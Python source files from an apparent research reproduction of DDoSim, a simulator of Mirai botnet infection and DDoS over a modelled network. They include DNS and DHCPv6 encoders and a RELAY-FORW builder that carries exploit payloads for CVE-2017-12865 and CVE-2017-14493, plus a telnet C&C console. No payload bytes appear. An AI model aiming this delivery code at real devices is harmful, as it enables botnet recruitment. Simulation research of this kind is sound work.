        sock.send(f"GET {path} HTTP/1.0\r\nHost: {address}\r\n\r\n".encode())
        status_line = yield from sock.read_line()
        if status_line is None:
            raise HttpError("empty HTTP response")
        parts = status_line.decode("ascii", "replace").split(None, 2)
        if len(parts) < 2 or not parts[1].isdigit():
            raise HttpError(f"bad status line {status_line!r}")
        status = int(parts[1])
        reason = parts[2] if len(parts) > 2 else ""
        content_length: Optional[int] = None
        while True:
            line = yield from sock.read_line()
            if not line:
                break
            key, _, value = line.decode("ascii", "replace").partition(":")
            if key.strip().lower() == "content-length":
                content_length = int(value.strip())
        if content_length is not None:
            body = yield from sock.read_exactly(content_length)
        else:
            body = yield from sock.read_all()
        return HttpResponse(status, reason, body)
    finally:
        sock.close()
