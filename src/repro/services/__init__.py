"""repro.services — protocol servers/clients over the simulated network.

The Attacker component's sub-services (§II-A / §III-A of the paper):

* :mod:`repro.services.dns` — wire-format DNS plus the **malicious DNS
  server** that answers Devs' queries with exploit-carrying responses
  (the CVE-2017-12865 delivery path);
* :mod:`repro.services.dhcp6` — DHCPv6 messages plus the **RELAYFORW
  exploit sender** that multicasts malformed messages to ``ff02::1:2``
  (the CVE-2017-14493 delivery path);
* :mod:`repro.services.http` — the Apache-analogue **file server** hosting
  the infection shell script and Mirai binaries, and the client side
  ``curl`` uses;
* :mod:`repro.services.telnet` — the line-oriented console used to drive
  the C&C server;
* :mod:`repro.services.exploits` — the **Exploit & Infection Scripts**:
  per-CVE payload builders (leak handling + ROP chain) and the hosted
  shell script that turns a hijack into a Mirai install.
"""

from repro.services.dns import (
    CLASS_IN,
    DnsMessage,
    DnsQuestion,
    DnsResourceRecord,
    TYPE_A,
    TYPE_AAAA,
    TYPE_TXT,
)
from repro.services.dhcp6 import Dhcp6Message, Dhcp6Option
from repro.services.http import HttpFileServer, HttpResponse, http_get
from repro.services.telnet import TelnetServer

__all__ = [
    "CLASS_IN",
    "Dhcp6Message",
    "Dhcp6Option",
    "DnsMessage",
    "DnsQuestion",
    "DnsResourceRecord",
    "HttpFileServer",
    "HttpResponse",
    "TYPE_A",
    "TYPE_AAAA",
    "TYPE_TXT",
    "TelnetServer",
    "http_get",
]
