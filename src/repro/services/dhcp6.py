"""DHCPv6 messages (RFC 8415 subset) — the Dnsmasq delivery path.

CVE-2017-14493 is a stack overflow in dnsmasq's handling of RELAY-FORW
messages.  The paper: "we craft a RELAYFORW DHCPv6 message that contains
the above payload and send it to Devs ... to a multicast IPv6 address
since the vulnerability in Dnsmasq resides in its IPv6 processing module,
and there is no broadcast address in IPv6" (§III-A, §IV-A).

The format modelled: relay messages carry a 1-byte msg-type, 1-byte
hop-count, two 16-byte addresses, then TLV options.  The exploit rides in
``OPTION_RELAY_MSG``, whose contents the vulnerable handler copies into a
fixed stack buffer.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field
from typing import List, Optional

from repro.netsim.address import Ipv6Address

# Message types.
MSG_SOLICIT = 1
MSG_ADVERTISE = 2
MSG_REPLY = 7
MSG_INFORMATION_REQUEST = 11
MSG_RELAY_FORW = 12
MSG_RELAY_REPL = 13

# Option codes.
OPTION_CLIENTID = 1
OPTION_SERVERID = 2
OPTION_STATUS_CODE = 13
OPTION_RELAY_MSG = 9
OPTION_VENDOR_OPTS = 17

SERVER_PORT = 547
CLIENT_PORT = 546


class Dhcp6DecodeError(ValueError):
    """Malformed DHCPv6 wire data."""


@dataclass
class Dhcp6Option:
    code: int
    data: bytes

    def encode(self) -> bytes:
        return struct.pack("!HH", self.code, len(self.data)) + self.data


@dataclass
class Dhcp6Message:
    """A DHCPv6 message; relay forms carry hop/link/peer, others a txn id."""

    msg_type: int
    transaction_id: int = 0
    hop_count: int = 0
    link_address: Optional[Ipv6Address] = None
    peer_address: Optional[Ipv6Address] = None
    options: List[Dhcp6Option] = field(default_factory=list)

    @property
    def is_relay(self) -> bool:
        return self.msg_type in (MSG_RELAY_FORW, MSG_RELAY_REPL)

    def option(self, code: int) -> Optional[Dhcp6Option]:
        for option in self.options:
            if option.code == code:
                return option
        return None

    def encode(self) -> bytes:
        if self.is_relay:
            link = (self.link_address or Ipv6Address(0)).value
            peer = (self.peer_address or Ipv6Address(0)).value
            head = struct.pack(
                "!BB16s16s",
                self.msg_type,
                self.hop_count,
                link.to_bytes(16, "big"),
                peer.to_bytes(16, "big"),
            )
        else:
            head = struct.pack("!I", (self.msg_type << 24) | (self.transaction_id & 0xFFFFFF))
        return head + b"".join(option.encode() for option in self.options)

    @classmethod
    def decode(cls, data: bytes) -> "Dhcp6Message":
        if not data:
            raise Dhcp6DecodeError("empty message")
        msg_type = data[0]
        if msg_type in (MSG_RELAY_FORW, MSG_RELAY_REPL):
            if len(data) < 34:
                raise Dhcp6DecodeError("short relay header")
            hop_count = data[1]
            link = Ipv6Address(int.from_bytes(data[2:18], "big"))
            peer = Ipv6Address(int.from_bytes(data[18:34], "big"))
            options = cls._decode_options(data, 34)
            return cls(
                msg_type,
                hop_count=hop_count,
                link_address=link,
                peer_address=peer,
                options=options,
            )
        if len(data) < 4:
            raise Dhcp6DecodeError("short header")
        transaction_id = int.from_bytes(data[1:4], "big")
        options = cls._decode_options(data, 4)
        return cls(msg_type, transaction_id=transaction_id, options=options)

    @staticmethod
    def _decode_options(data: bytes, offset: int) -> List[Dhcp6Option]:
        options: List[Dhcp6Option] = []
        while offset < len(data):
            if offset + 4 > len(data):
                raise Dhcp6DecodeError("truncated option header")
            code, length = struct.unpack_from("!HH", data, offset)
            offset += 4
            if offset + length > len(data):
                raise Dhcp6DecodeError("truncated option data")
            options.append(Dhcp6Option(code, data[offset: offset + length]))
            offset += length
        return options


def make_relay_forw(payload: bytes, link: Ipv6Address, peer: Ipv6Address,
                    hop_count: int = 0) -> Dhcp6Message:
    """The attack message: RELAY-FORW wrapping ``payload`` in RELAY_MSG."""
    return Dhcp6Message(
        MSG_RELAY_FORW,
        hop_count=hop_count,
        link_address=link,
        peer_address=peer,
        options=[Dhcp6Option(OPTION_RELAY_MSG, payload)],
    )
