"""DNS wire format (RFC 1035 subset, no compression) and helpers.

Connman's dnsproxy is the paper's first exploitation target: Devs running
the Connman analogue are "manually configured to listen to our malicious
DNS server" (§V-C), send it queries, and the server answers with a
response whose record data overflows the vulnerable parser.

The encoder/decoder here is deliberately strict *except* where the attack
needs it not to be: resource-record RDATA is raw length-prefixed bytes,
so a response can legally carry an arbitrary binary blob — which is where
the ROP payload rides.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field
from typing import List, Tuple

TYPE_A = 1
TYPE_CNAME = 5
TYPE_TXT = 16
TYPE_AAAA = 28
CLASS_IN = 1

FLAG_QR = 0x8000  # response bit
FLAG_RD = 0x0100  # recursion desired
RCODE_SERVFAIL = 2

_HEADER = struct.Struct("!HHHHHH")


class DnsDecodeError(ValueError):
    """Malformed DNS wire data."""


def encode_name(name: str) -> bytes:
    """Encode a dotted name as length-prefixed labels."""
    if name in ("", "."):
        return b"\x00"
    encoded = bytearray()
    for label in name.rstrip(".").split("."):
        raw = label.encode()
        if not raw:
            raise DnsDecodeError(f"empty label in {name!r}")
        if len(raw) > 63:
            raise DnsDecodeError(f"label too long in {name!r}")
        encoded.append(len(raw))
        encoded.extend(raw)
    encoded.append(0)
    return bytes(encoded)


def decode_name(data: bytes, offset: int) -> Tuple[str, int]:
    """Decode labels at ``offset``; returns (name, next_offset)."""
    labels: List[str] = []
    while True:
        if offset >= len(data):
            raise DnsDecodeError("truncated name")
        length = data[offset]
        offset += 1
        if length == 0:
            break
        if length > 63:
            raise DnsDecodeError(f"label length {length} > 63 (compression unsupported)")
        if offset + length > len(data):
            raise DnsDecodeError("truncated label")
        labels.append(data[offset: offset + length].decode("ascii", "replace"))
        offset += length
    return ".".join(labels), offset


@dataclass
class DnsQuestion:
    name: str
    qtype: int = TYPE_A
    qclass: int = CLASS_IN

    def encode(self) -> bytes:
        return encode_name(self.name) + struct.pack("!HH", self.qtype, self.qclass)


@dataclass
class DnsResourceRecord:
    name: str
    rtype: int
    rdata: bytes
    rclass: int = CLASS_IN
    ttl: int = 60

    def encode(self) -> bytes:
        return (
            encode_name(self.name)
            + struct.pack("!HHIH", self.rtype, self.rclass, self.ttl, len(self.rdata))
            + self.rdata
        )


@dataclass
class DnsMessage:
    """A full DNS message (header + questions + answers)."""

    id: int = 0
    flags: int = 0
    questions: List[DnsQuestion] = field(default_factory=list)
    answers: List[DnsResourceRecord] = field(default_factory=list)

    @property
    def is_response(self) -> bool:
        return bool(self.flags & FLAG_QR)

    @property
    def rcode(self) -> int:
        return self.flags & 0x000F

    def encode(self) -> bytes:
        header = _HEADER.pack(
            self.id, self.flags, len(self.questions), len(self.answers), 0, 0
        )
        body = b"".join(question.encode() for question in self.questions)
        body += b"".join(answer.encode() for answer in self.answers)
        return header + body

    @classmethod
    def decode(cls, data: bytes) -> "DnsMessage":
        if len(data) < _HEADER.size:
            raise DnsDecodeError("short DNS header")
        message_id, flags, qdcount, ancount, _ns, _ar = _HEADER.unpack_from(data)
        offset = _HEADER.size
        questions: List[DnsQuestion] = []
        for _ in range(qdcount):
            name, offset = decode_name(data, offset)
            if offset + 4 > len(data):
                raise DnsDecodeError("truncated question")
            qtype, qclass = struct.unpack_from("!HH", data, offset)
            offset += 4
            questions.append(DnsQuestion(name, qtype, qclass))
        answers: List[DnsResourceRecord] = []
        for _ in range(ancount):
            name, offset = decode_name(data, offset)
            if offset + 10 > len(data):
                raise DnsDecodeError("truncated record header")
            rtype, rclass, ttl, rdlength = struct.unpack_from("!HHIH", data, offset)
            offset += 10
            if offset + rdlength > len(data):
                raise DnsDecodeError("truncated rdata")
            rdata = data[offset: offset + rdlength]
            offset += rdlength
            answers.append(DnsResourceRecord(name, rtype, rdata, rclass, ttl))
        return cls(message_id, flags, questions, answers)


def make_query(message_id: int, name: str, qtype: int = TYPE_A) -> DnsMessage:
    return DnsMessage(
        id=message_id, flags=FLAG_RD, questions=[DnsQuestion(name, qtype)]
    )


def make_response(query: DnsMessage, answers: List[DnsResourceRecord]) -> DnsMessage:
    return DnsMessage(
        id=query.id,
        flags=FLAG_QR | (query.flags & FLAG_RD),
        questions=list(query.questions),
        answers=answers,
    )
