"""A line-oriented telnet-style console server.

The paper: "we can access C&C Server from a terminal via telnet to
monitor the connected bots and instruct them to attack TServer" (§III-A).
:class:`TelnetServer` provides that console: it authenticates a login,
then feeds each received line to a command handler and writes back the
handler's reply — the C&C admin interface plugs in as the handler.
"""

from __future__ import annotations

from typing import Callable, Optional

from repro.netsim.process import SimProcess
from repro.netsim.sockets import TcpSocket

#: handler(line) -> reply text (or None to say nothing)
CommandHandler = Callable[[str], Optional[str]]


class TelnetServer:
    """Authenticated line-based console on a TCP port."""

    def __init__(
        self,
        port: int = 2323,
        username: str = "root",
        password: str = "root",
        banner: str = "DDoSim C&C console",
    ):
        self.port = port
        self.username = username
        self.password = password
        self.banner = banner
        self.sessions_opened = 0
        self.logins_failed = 0
        self.handler: Optional[CommandHandler] = None

    def program(self):
        """Build the ``program(ctx)`` generator for this console."""

        def telnetd(ctx):
            server = ctx.netns.tcp_listen(self.port)
            ctx.bind_port_marker(self.port)
            try:
                while True:
                    sock = yield server.accept()
                    self.sessions_opened += 1
                    SimProcess(ctx.sim, self._session(sock), name="telnet-session")
            finally:
                ctx.release_port_marker(self.port)
                server.close()

        return telnetd

    def _session(self, sock: TcpSocket):
        try:
            sock.send_line(self.banner)
            sock.send_line("login:")
            user = yield from sock.read_line()
            sock.send_line("password:")
            password = yield from sock.read_line()
            if user is None or password is None:
                return
            if user.decode() != self.username or password.decode() != self.password:
                self.logins_failed += 1
                sock.send_line("login incorrect")
                return
            sock.send_line("ok")
            while True:
                line = yield from sock.read_line()
                if line is None:
                    return
                text = line.decode("utf-8", "replace").strip()
                if text in ("exit", "quit"):
                    sock.send_line("bye")
                    return
                if self.handler is None:
                    sock.send_line("no shell")
                else:
                    reply = self.handler(text)
                    if reply is not None:
                        for reply_line in reply.splitlines() or [""]:
                            sock.send_line(reply_line)
                sock.send_line(".")  # end-of-reply marker for clients
        finally:
            sock.close()


def telnet_exec(netns, address, port: int, username: str, password: str,
                commands):
    """Generator: log in, run each command, return the list of replies."""
    sock = netns.tcp_connect(address, port)
    yield sock.wait_connected()
    replies = []
    try:
        yield from sock.read_line()  # banner
        yield from sock.read_line()  # login prompt
        sock.send_line(username)
        yield from sock.read_line()  # password prompt
        sock.send_line(password)
        status = yield from sock.read_line()
        if status != b"ok":
            raise ConnectionError("telnet login failed")
        for command in commands:
            sock.send_line(command)
            lines = []
            while True:
                line = yield from sock.read_line()
                if line is None or line == b".":
                    break
                lines.append(line.decode("utf-8", "replace"))
            replies.append("\n".join(lines))
        sock.send_line("exit")
        return replies
    finally:
        sock.close()
