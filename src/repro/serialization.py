"""JSON (de)serialization for configs and results.

Experiment reproducibility plumbing: dump a
:class:`repro.core.config.SimulationConfig` or a
:class:`repro.core.results.RunResult` to JSON and rebuild configs from
it, so sweeps can be scripted, archived and diffed.
"""

from __future__ import annotations

import dataclasses
import json
from typing import Any, Dict

from repro.core.config import SimulationConfig
from repro.core.results import RunResult


def config_to_dict(config: SimulationConfig) -> Dict[str, Any]:
    """A JSON-able dict snapshot of a config."""
    data = dataclasses.asdict(config)
    # Tuples of tuples (protection profiles) become lists in JSON; keep
    # a canonical list-of-lists form.
    data["protection_profiles"] = [list(p) for p in config.protection_profiles]
    if config.faults is not None:
        data["faults"] = config.faults.to_dict()
    return data


def config_to_json(config: SimulationConfig, indent: int = 2) -> str:
    """Pretty-printed JSON text for a config."""
    return json.dumps(config_to_dict(config), indent=indent, sort_keys=True)


def config_to_canonical_json(config: SimulationConfig) -> str:
    """Key-stable single-line JSON for a config.

    The fingerprint substrate for :mod:`repro.cache`: sorted keys, no
    whitespace variance, tuples normalised to lists — two configs that
    compare equal always serialize to the same bytes.
    """
    return json.dumps(
        config_to_dict(config), sort_keys=True, separators=(",", ":")
    )


def config_from_dict(data: Dict[str, Any]) -> SimulationConfig:
    """Rebuild a config from a dict (rejects unknown fields)."""
    payload = dict(data)
    if "protection_profiles" in payload:
        payload["protection_profiles"] = tuple(
            tuple(profile) for profile in payload["protection_profiles"]
        )
    for key in ("dev_rate_kbps", "churn_phi"):
        if key in payload:
            payload[key] = tuple(payload[key])
    field_names = {field.name for field in dataclasses.fields(SimulationConfig)}
    unknown = set(payload) - field_names
    if unknown:
        raise ValueError(f"unknown config fields: {sorted(unknown)}")
    return SimulationConfig(**payload)


def config_from_json(text: str) -> SimulationConfig:
    """Rebuild a config from JSON text."""
    return config_from_dict(json.loads(text))


def _jsonable(value: Any) -> Any:
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return {
            field.name: _jsonable(getattr(value, field.name))
            for field in dataclasses.fields(value)
        }
    if isinstance(value, dict):
        return {str(key): _jsonable(item) for key, item in value.items()}
    if isinstance(value, (list, tuple)):
        return [_jsonable(item) for item in value]
    if isinstance(value, (int, float, str, bool)) or value is None:
        return value
    return str(value)


def result_to_dict(result: RunResult) -> Dict[str, Any]:
    """A JSON-able dict snapshot of a RunResult (nested dataclasses)."""
    return _jsonable(result)


def result_to_json(result: RunResult, indent: int = 2) -> str:
    """Pretty-printed JSON text for a RunResult."""
    return json.dumps(result_to_dict(result), indent=indent, sort_keys=True)


def result_from_dict(data: Dict[str, Any]) -> RunResult:
    """Rebuild a :class:`RunResult` from its dict snapshot.

    Exact inverse of :func:`result_to_dict` — round-tripping a result
    through dict/JSON and back re-serializes byte-identically, which is
    what lets :mod:`repro.cache` serve stored runs in place of live ones.
    """
    from repro.core.resources import ResourceReport
    from repro.core.results import (
        AttackStatsSummary,
        ChurnSummary,
        RecruitmentStats,
    )

    payload = dict(data)
    payload["recruitment"] = RecruitmentStats(**payload["recruitment"])
    payload["attack"] = AttackStatsSummary(**payload["attack"])
    payload["churn"] = ChurnSummary(**payload["churn"])
    payload["resources"] = ResourceReport(**payload["resources"])
    payload["rate_series_kbps"] = list(payload.get("rate_series_kbps", ()))
    return RunResult(**payload)


def result_from_json(text: str) -> RunResult:
    """Rebuild a RunResult from JSON text."""
    return result_from_dict(json.loads(text))


def rows_to_csv(rows) -> str:
    """Render sweep rows (list of dicts) as CSV text."""
    if not rows:
        return ""
    columns = list(rows[0].keys())
    lines = [",".join(columns)]
    for row in rows:
        lines.append(",".join(str(row.get(column, "")) for column in columns))
    return "\n".join(lines) + "\n"
