"""A CSMA/CA (802.11 DCF-style) shared wireless medium.

Models the parts of WiFi that matter for the validation experiment:

* one shared medium — only one frame at a time succeeds;
* carrier sense + DIFS + slotted random backoff per contender;
* ties in the backoff draw collide: every tied frame is lost and its
  sender backs off with a doubled contention window (up to a retry cap);
* per-frame random loss models RF noise;
* frames serialize at the PHY rate plus fixed MAC overhead (preamble,
  SIFS, ACK).

Stations talk to the access point; the AP forwards into the wired side
and transmits downlink frames through the very same contention process.
This is intentionally a *different* congestion mechanism from the star
Internet's drop-tail queues — the validation compares outcomes across
independent models, like the paper compares simulator vs hardware.
"""

from __future__ import annotations

import random
from collections import deque
from typing import Deque, Dict, List, Optional, Tuple

from repro.netsim.address import Address
from repro.netsim.headers import Ipv4Header, Ipv6Header
from repro.netsim.netdevice import NetDevice
from repro.netsim.packet import Packet
from repro.netsim.simulator import Simulator

SLOT_TIME = 9e-6
DIFS = 34e-6
#: preamble + SIFS + ACK per successful frame exchange (seconds)
FRAME_OVERHEAD = 120e-6
CW_MIN = 15
CW_MAX = 1023
MAX_RETRIES = 7

IDLE = "idle"
CONTENDING = "contending"
TRANSMITTING = "transmitting"


class WifiChannel:
    """The shared medium plus the DCF arbitration logic."""

    def __init__(
        self,
        sim: Simulator,
        phy_rate_bps: float = 54e6,
        loss_rate: float = 0.01,
        rng: Optional[random.Random] = None,
    ):
        if phy_rate_bps <= 0:
            raise ValueError("PHY rate must be positive")
        if not 0.0 <= loss_rate < 1.0:
            raise ValueError("loss rate must be in [0, 1)")
        self.sim = sim
        self.phy_rate_bps = phy_rate_bps
        self.loss_rate = loss_rate
        self.rng = rng or random.Random(0)
        self.devices: List["WifiDevice"] = []
        self.state = IDLE
        self._contenders: List["WifiDevice"] = []
        # Statistics.
        self.frames_delivered = 0
        self.frames_collided = 0
        self.frames_lost_noise = 0
        self.airtime_busy = 0.0

    def attach(self, device: "WifiDevice") -> None:
        self.devices.append(device)
        device.channel = self

    # ------------------------------------------------------------------
    # DCF
    # ------------------------------------------------------------------
    def contend(self, device: "WifiDevice") -> None:
        """A device with a queued frame asks for the medium."""
        if device in self._contenders:
            return
        self._contenders.append(device)
        if self.state == IDLE:
            self._start_round()

    def _start_round(self) -> None:
        if not self._contenders:
            self.state = IDLE
            return
        self.state = CONTENDING
        draws: List[Tuple[int, WifiDevice]] = [
            (self.rng.randrange(0, contender.contention_window + 1), contender)
            for contender in self._contenders
        ]
        min_slots = min(slots for slots, _ in draws)
        winners = [contender for slots, contender in draws if slots == min_slots]
        wait = DIFS + min_slots * SLOT_TIME
        self.sim.schedule(wait, self._begin_transmission, winners)

    def _begin_transmission(self, winners: List["WifiDevice"]) -> None:
        frames = []
        for winner in winners:
            frame = winner.dequeue_frame()
            if frame is not None:
                frames.append((winner, frame))
            if winner in self._contenders:
                self._contenders.remove(winner)
        if not frames:
            self._start_round()
            return
        self.state = TRANSMITTING
        longest = max(frame.size for _winner, frame in frames)
        airtime = longest * 8.0 / self.phy_rate_bps + FRAME_OVERHEAD
        self.airtime_busy += airtime
        self.sim.schedule(airtime, self._end_transmission, frames)

    def _end_transmission(self, frames) -> None:
        if len(frames) > 1:
            # Simultaneous winners: collision; every frame is lost.
            self.frames_collided += len(frames)
            for device, frame in frames:
                device.handle_failure(frame)
        else:
            device, frame = frames[0]
            if self.loss_rate > 0.0 and self.rng.random() < self.loss_rate:
                self.frames_lost_noise += 1
                device.handle_failure(frame)
            else:
                self.frames_delivered += 1
                device.handle_success()
                target = device.resolve_target(frame)
                if target is not None:
                    self.sim.schedule_now(target.receive, frame)
        self._start_round()


class WifiDevice(NetDevice):
    """A station or access-point radio on a :class:`WifiChannel`.

    ``data_rate_bps`` is the device's *traffic-shaped* rate (the paper
    limits Raspberry Pi data rates to 100–500 kbps to mimic IoT
    bandwidth); actual frames serialize at the channel PHY rate.
    """

    def __init__(
        self,
        sim: Simulator,
        data_rate_bps: float,
        is_access_point: bool = False,
        queue_frames: int = 100,
        name: str = "wlan0",
    ):
        super().__init__(sim, name)
        self.data_rate_bps = data_rate_bps
        self.is_access_point = is_access_point
        self.queue: Deque[Packet] = deque()
        self.queue_limit = queue_frames
        self.queue_drops = 0
        self.contention_window = CW_MIN
        self.retries = 0
        self.frames_dropped_retry = 0
        self.channel: Optional[WifiChannel] = None
        #: AP side: IP address -> station device (association table)
        self.associations: Dict[Address, "WifiDevice"] = {}
        #: station side: the AP to send everything to
        self.access_point: Optional["WifiDevice"] = None
        self._retry_frame: Optional[Packet] = None

    # ------------------------------------------------------------------
    # NetDevice interface
    # ------------------------------------------------------------------
    def send(self, packet: Packet) -> bool:
        if not self.up:
            self.drops_down += 1
            return False
        if self.channel is None:
            return False
        if len(self.queue) >= self.queue_limit:
            self.queue_drops += 1
            return False
        self.queue.append(packet)
        self.channel.contend(self)
        return True

    # ------------------------------------------------------------------
    # Channel callbacks
    # ------------------------------------------------------------------
    def dequeue_frame(self) -> Optional[Packet]:
        if self._retry_frame is not None:
            frame, self._retry_frame = self._retry_frame, None
            return frame
        if not self.up or not self.queue:
            return None
        return self.queue.popleft()

    def handle_success(self) -> None:
        self.contention_window = CW_MIN
        self.retries = 0
        self.tx_packets += 1
        if self.queue and self.channel is not None:
            self.channel.contend(self)

    def handle_failure(self, frame: Packet) -> None:
        self.retries += 1
        if self.retries > MAX_RETRIES:
            self.frames_dropped_retry += 1
            self.retries = 0
            self.contention_window = CW_MIN
        else:
            self.contention_window = min(self.contention_window * 2 + 1, CW_MAX)
            self._retry_frame = frame
        if (self._retry_frame is not None or self.queue) and self.channel is not None:
            self.channel.contend(self)

    def resolve_target(self, frame: Packet) -> Optional["WifiDevice"]:
        """Where this frame lands: stations uplink to the AP; the AP looks
        the destination station up in its association table."""
        if not self.is_access_point:
            return self.access_point
        header = frame.headers[-1] if frame.headers else None
        if isinstance(header, (Ipv4Header, Ipv6Header)):
            target = self.associations.get(header.dst)
            if target is not None:
                return target
            if isinstance(header, Ipv6Header) and header.dst.is_multicast:
                # Broadcast-ish: AP replicates to every associated station
                # (stations appear once per address family — dedupe by
                # identity, preserving association-table order so the
                # replication sequence never depends on id() values).
                delivered: list = []
                for station in self.associations.values():
                    if any(known is station for known in delivered):
                        continue
                    delivered.append(station)
                    self.sim.schedule_now(station.receive, frame.copy())
                return None
        return None

    def set_down(self) -> None:
        super().set_down()
        self.queue.clear()
        self._retry_frame = None
