"""The hardware-testbed network substrate and validation runner.

Mirrors the paper's §IV-D setup: "multiple Raspberry Pi 3 Model B
devices, two desktop computers, and a Netgear Nighthawk X6 router ...
We wirelessly connect Devs (with data rates limited to 100-500 kbps to
mimic the actual bandwidth of IoT devices) and establish Ethernet
connections for the desktops."

:class:`WifiTestbedInternet` is duck-type compatible with
:class:`repro.netsim.topology.StarInternet`, so the *same* DDoSim
component code (Attacker, Devs, TServer, churn, metrics) runs unchanged
on it — only the network fabric differs: slow hosts associate to a shared
CSMA/CA WiFi medium, fast hosts get Ethernet point-to-point links.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Dict, Optional

from repro.hardware.wifi import WifiChannel, WifiDevice
from repro.netsim.address import (
    ALL_DHCP_RELAY_AGENTS_AND_SERVERS,
    Address,
    Ipv4Address,
    Ipv4AddressAllocator,
    Ipv6Address,
    Ipv6AddressAllocator,
)
from repro.netsim.channel import PointToPointChannel
from repro.netsim.netdevice import PointToPointDevice
from repro.netsim.node import Node
from repro.netsim.queues import DropTailQueue
from repro.netsim.simulator import Simulator

#: hosts below this uplink rate associate over WiFi (IoT devices); faster
#: hosts (the desktops) are cabled to the router
WIRELESS_THRESHOLD_BPS = 10e6


@dataclass
class WifiHostLink:
    """Association record for one wireless host (HostLink-compatible)."""

    node: Node
    host_device: WifiDevice
    ipv6: Ipv6Address
    ipv4: Ipv4Address

    @property
    def up(self) -> bool:
        return self.host_device.up

    def set_up(self, up: bool) -> None:
        if up:
            self.host_device.set_up()
        else:
            self.host_device.set_down()


class WifiTestbedInternet:
    """Netgear-router testbed fabric: WiFi stations + Ethernet desktops."""

    def __init__(
        self,
        sim: Simulator,
        ipv6_prefix: str = "2001:db8:0:2",
        ipv4_prefix: str = "192.168.1.0",
        phy_rate_bps: float = 54e6,
        wifi_loss_rate: float = 0.01,
        ethernet_rate_bps: float = 1e9,
        default_queue_packets: int = 100,
        rng: Optional[random.Random] = None,
    ):
        self.sim = sim
        self.router = Node(sim, "nighthawk-router")
        self.router.ip.forwarding = True
        self.wifi = WifiChannel(
            sim, phy_rate_bps, wifi_loss_rate, rng or random.Random("wifi")
        )
        self.access_point = WifiDevice(
            sim, phy_rate_bps, is_access_point=True, name="ap0"
        )
        self.router.add_device(self.access_point)
        self.wifi.attach(self.access_point)
        self.router.ip.add_multicast_route(
            ALL_DHCP_RELAY_AGENTS_AND_SERVERS, [self.access_point]
        )
        self.ethernet_rate_bps = ethernet_rate_bps
        self.default_queue_packets = default_queue_packets
        self.links: Dict[Node, object] = {}
        self._ipv6_pool = Ipv6AddressAllocator(ipv6_prefix)
        self._ipv4_pool = Ipv4AddressAllocator(ipv4_prefix)

    # ------------------------------------------------------------------
    # StarInternet-compatible surface
    # ------------------------------------------------------------------
    def attach_host(
        self,
        node: Node,
        data_rate_bps: float,
        delay: float = 0.010,
        downlink_rate_bps: Optional[float] = None,
        queue_packets: Optional[int] = None,
        dhcp6_multicast_member: bool = False,
    ):
        if node in self.links:
            raise ValueError(f"{node.name} is already attached")
        if data_rate_bps < WIRELESS_THRESHOLD_BPS:
            link = self._attach_wireless(node, data_rate_bps, queue_packets)
        else:
            link = self._attach_wired(
                node, delay, downlink_rate_bps, queue_packets
            )
        self.links[node] = link
        return link

    def _attach_wireless(self, node: Node, data_rate_bps: float,
                         queue_packets: Optional[int]) -> WifiHostLink:
        station = WifiDevice(
            self.sim,
            data_rate_bps,
            queue_frames=queue_packets or self.default_queue_packets,
            name=f"{node.name}-wlan0",
        )
        node.add_device(station)
        self.wifi.attach(station)
        station.access_point = self.access_point
        ipv6 = self._ipv6_pool.allocate()
        ipv4 = self._ipv4_pool.allocate()
        node.ip.add_address(station, ipv6)
        node.ip.add_address(station, ipv4)
        node.ip.set_default_device(station)
        self.access_point.associations[ipv6] = station
        self.access_point.associations[ipv4] = station
        self.router.ip.add_route(ipv6, self.access_point)
        self.router.ip.add_route(ipv4, self.access_point)
        return WifiHostLink(node, station, ipv6, ipv4)

    def _attach_wired(self, node: Node, delay: float,
                      downlink_rate_bps: Optional[float],
                      queue_packets: Optional[int]):
        from repro.netsim.topology import HostLink

        queue_size = queue_packets or self.default_queue_packets
        channel = PointToPointChannel(self.sim, delay=delay)
        host_device = PointToPointDevice(
            self.sim, self.ethernet_rate_bps, DropTailQueue(queue_size),
            name=f"{node.name}-eth0",
        )
        router_device = PointToPointDevice(
            self.sim,
            downlink_rate_bps or self.ethernet_rate_bps,
            DropTailQueue(queue_size),
            name=f"router-to-{node.name}",
        )
        node.add_device(host_device)
        self.router.add_device(router_device)
        channel.attach(host_device)
        channel.attach(router_device)
        ipv6 = self._ipv6_pool.allocate()
        ipv4 = self._ipv4_pool.allocate()
        node.ip.add_address(host_device, ipv6)
        node.ip.add_address(host_device, ipv4)
        node.ip.set_default_device(host_device)
        self.router.ip.add_route(ipv6, router_device)
        self.router.ip.add_route(ipv4, router_device)
        return HostLink(node, host_device, router_device, channel, ipv6, ipv4)

    def link_of(self, node: Node):
        return self.links[node]

    def address_of(self, node: Node, want_ipv6: bool = True) -> Address:
        link = self.links[node]
        return link.ipv6 if want_ipv6 else link.ipv4

    def set_host_up(self, node: Node, up: bool) -> None:
        self.links[node].set_up(up)

    def total_queue_drops(self) -> int:
        drops = 0
        for link in self.links.values():
            device = link.host_device
            if isinstance(device, WifiDevice):
                drops += device.queue_drops + device.frames_dropped_retry
            else:
                drops += device.queue.dropped
                drops += link.router_device.queue.dropped
        drops += self.access_point.queue_drops + self.access_point.frames_dropped_retry
        return drops


class HardwareTestbed:
    """Runs the validation experiment on the WiFi testbed model."""

    def __init__(self, config, wifi_loss_rate: float = 0.01,
                 phy_rate_bps: float = 54e6):
        self.config = config
        self.wifi_loss_rate = wifi_loss_rate
        self.phy_rate_bps = phy_rate_bps

    def run(self):
        """Run the same experiment DDoSim runs, on the hardware model."""
        from repro.core.framework import DDoSim

        loss = self.wifi_loss_rate
        phy = self.phy_rate_bps
        seed = self.config.seed

        def factory(sim, config):
            return WifiTestbedInternet(
                sim,
                phy_rate_bps=phy,
                wifi_loss_rate=loss,
                default_queue_packets=config.queue_packets,
                rng=random.Random(f"{seed}-wifi"),
            )

        return DDoSim(self.config, network_factory=factory).run()
