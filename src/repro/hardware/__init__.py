"""repro.hardware — the physical-testbed model for framework validation.

The paper validates DDoSim by re-running experiments on real hardware:
Raspberry Pi 3 devices (Devs) on a Netgear Nighthawk X6's WiFi, with two
Ethernet-attached desktops as Attacker and TServer (§IV-D, Figure 4).

We cannot plug in Raspberry Pis, so this package models that testbed as
an *independent code path* sharing no network model with DDoSim's star
Internet: a CSMA/CA (802.11 DCF-style) shared wireless medium with
contention, collisions, retries and random frame loss
(:mod:`repro.hardware.wifi`), assembled into a drop-in network substrate
(:class:`repro.hardware.testbed.WifiTestbedInternet`) that the same
Attacker/Devs/TServer components run on.  Agreement between the two
models' received-rate curves is the reproduction's analogue of the
